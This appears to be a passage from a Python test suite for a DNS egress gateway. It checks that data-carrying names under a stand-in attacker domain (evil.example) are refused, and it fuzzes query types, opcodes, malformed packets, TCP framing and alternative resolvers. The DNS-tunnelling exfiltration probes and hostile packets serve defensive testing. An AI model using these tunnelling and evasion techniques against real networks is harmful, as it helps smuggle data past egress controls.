# Rows 18, 19, 20, 22, 23, 25, 26 and 29: DNS. Argument: JSON {"others": [other name servers], "replicas": number,
# "suffix": random}. Rules:
# allowed.example:443, *.wild.example:443.
told = json.loads(sys.argv[1])
suffix = told["suffix"]


def patient(packet):
    """Asks again while it is one's own haste that is refused."""
    for _ in range(20):
        reply = ask(packet)
        if rcode(reply) != 5:
            break
        time.sleep(0.2)
    return reply


def tcp(data, patience=8):
    """Bytes by TCP, in the pieces they are given in; what came back."""
    with dial(53, patience=patience) as stream:
        try:
            for piece in data:
                stream.sendall(piece)
                time.sleep(0.02)
            stream.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        return drain(stream)


def framed(packet):
    return len(packet).to_bytes(2, "big") + packet


reply = resolve("allowed.example")
twin(18, "an allowed name leads to the gateway", reply and socket.inet_aton(GATE) in reply and rcode(reply) == 0, reply)
seed = random.Random(suffix)
wrong, worst = 0, ""
for number in range(2000):
    data = seed.randbytes(20).hex()
    name = f"{data}.{number:x}.tunnel-{suffix}.evil.example"
    reply = patient(question(name, 1 if number % 2 else 28))
    if rcode(reply) != 3 or answers(reply):
        wrong, worst = wrong + 1, f"{name}: {reply!r}"
attack(18, "2,000 names with data in them are unknown, each", wrong == 0, f"{wrong} were not: {worst}")
reply = resolve(f"tunnel-{suffix}.evil.example")
attack(18, "a refusal says why", b"NoRule" in (reply or b""), reply)
for name in ["evil.example", "203.0.113.9", "example", "", "com", "evil.example.allowed.example", f"a.b-{suffix}.wild.example"]:
    reply = resolve(name)
    attack(18, f"{name!r} is unknown", rcode(reply) == 3 and not answers(reply), reply)

# Under a wildcard there are so many names an hour, and none of them is asked outside before it is dialled.
# Each replica of the gateway has a count of its own.
many = 700 * told["replicas"]
codes = [rcode(patient(question(f"{seed.randbytes(16).hex()}.wild.example"))) for _ in range(many)]
attack(19, "data in names under a wildcard comes to an end", codes[-50:].count(0) == 0 and codes[-50:].count(3) > 40, f"{codes.count(0)} of {many} were answered")
twin(19, "some names under a wildcard are answered", codes.count(0) >= 50, f"{codes.count(0)} of {many}")
twin(19, "a name of its own goes on", rcode(resolve("allowed.example")) == 0)

served = {1, 28, 64, 65}
for kind in sorted({*range(0, 300), *range(300, 65536, 1009), 32768, 32769, 65280, 65535}):
    reply = patient(question("allowed.example", kind)) if kind in served else resolve("allowed.example", kind)
    if kind == 1:
        twin(20, "type A", rcode(reply) == 0 and answers(reply) == 1, reply)
    elif kind in served:
        row = 25 if kind in (64, 65) else 29
        attack(row, f"type {kind} has no data", rcode(reply) == 0 and not answers(reply), reply)
    else:
        attack(20, f"type {kind}", rcode(reply) in (None, 1, 4, 5) and not answers(reply), reply)
    time.sleep(0.003)
for kind in [16, 10, 255, 15, 33, 5, 12]:
    reply = resolve(f"{suffix}.evil.example", kind)
    attack(20, f"type {kind} of a name that is denied", rcode(reply) in (None, 3, 5) and not answers(reply), reply)
for family in [0, 2, 3, 4, 254, 255, 65535]:
    reply = resolve("allowed.example", 1, family=family)
    attack(20, f"class {family}", rcode(reply) != 0 and not answers(reply), reply)
for opcode in range(1, 16):
    reply = resolve("allowed.example", flags=0x0100 | opcode << 11)
    attack(20, f"opcode {opcode}", rcode(reply) != 0 and not answers(reply), reply)
for count in [0, 2, 65535]:
    reply = resolve("allowed.example", count=count)
    attack(20, f"{count} questions", rcode(reply) != 0 and not answers(reply), reply)
for packet in [b"", b"\0", question("allowed.example")[:11], question("allowed.example", edns=False)[:-1],
               b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"\x3f" * 300,
               question("allowed.example", flags=0x8180), os.urandom(512)]:
    reply = ask(packet, patience=1, tries=1)
    attack(20, "a broken packet", reply is None or rcode(reply) != 0 and not answers(reply), repr(packet[:20]))
twin(20, "after all that it answers", rcode(resolve("allowed.example")) == 0)

good, bad = question("allowed.example"), question("evil.example")
replies = tcp([framed(good)])
twin(22, "by TCP", rcode(replies[2:]) == 0 and answers(replies[2:]) == 1, replies)
replies = tcp([framed(good)[:1], framed(good)[1:9], framed(good)[9:]])
twin(22, "by TCP, the length in two pieces", rcode(replies[2:]) == 0, replies)
replies = tcp([framed(good) + framed(good)])
length = int.from_bytes(replies[:2], "big") + 2
twin(22, "by TCP, two at once", rcode(replies[2:]) == 0 and rcode(replies[length + 2:]) == 0, replies)
replies = tcp([framed(bad)])
attack(22, "a denied name by TCP", rcode(replies[2:]) == 3 and not answers(replies[2:]), replies)
replies = tcp([b"\xff\xff" + good])
attack(22, "a length that no query has", replies == b"", replies)
replies = tcp([b"\0\0"])
attack(22, "a length of nothing", replies == b"", replies)
replies = tcp([framed(good)[:-3]])
attack(22, "half a query", replies == b"", replies)

for server in told["others"]:
    reply = ask(question("allowed.example"), server, patience=1.5, tries=1)
    attack(23, f"the name server {server} by UDP", reply is None, reply)
    for port in [53, 853, 443]:
        try:
            with socket.create_connection((server, port), 1.5):
                attack(23, f"the name server {server}:{port} by TCP", False, "connected")
        except OSError as error:
            attack(23, f"the name server {server}:{port} by TCP", True, type(error).__name__)
for group, port in [("224.0.0.251", 5353), ("224.0.0.252", 5355)]:
    reply = ask(question("allowed.local"), group, port, patience=1, tries=1)
    attack(23, f"names by multicast {group}", reply is None, reply)
for port in [53, 853]:
    answer = connect(f"allowed.example:{port}")
    attack(23, f"port {port} of an allowed host", refused_by(answer, "DeniedPort", "PortNotAllowed"), short(answer))

with open("/etc/resolv.conf") as file:
    lines = [line.split() for line in file if line.strip() and not line.startswith("#")]
servers = [line[1] for line in lines if line[0] == "nameserver"]
attack(26, "the gateway is the one name server", servers == [GATE], lines)
attack(26, "no search list tells the namespace", not any(line[0] in ("search", "domain") and line[1:] != ["."] for line in lines), lines)
twin(26, "ndots is one", any(line[0] == "options" and "ndots:1" in line for line in lines), lines)
attack(27, "the node's own cache 169.254.20.10", ask(question("allowed.example"), "169.254.20.10", patience=1, tries=1) is None)
for name in ["evil.example", "allowed.example.default.svc.cluster.local"]:
    started = time.monotonic()
    try:
        socket.getaddrinfo(name, 443)
        attack(29, f"the C library finds {name}", False)
    except socket.gaierror as error:
        # An answer that it takes for temporary would be asked for again and again.
        held = error.errno == socket.EAI_NONAME and time.monotonic() - started < 4
        attack(29, f"the C library takes no for an answer for {name}", held, f"{error} after {time.monotonic() - started:.1f} s")
found = {entry[4][0] for entry in socket.getaddrinfo("allowed.example", 443)}
twin(29, "the C library finds the allowed name", found == {GATE}, found)
finish()
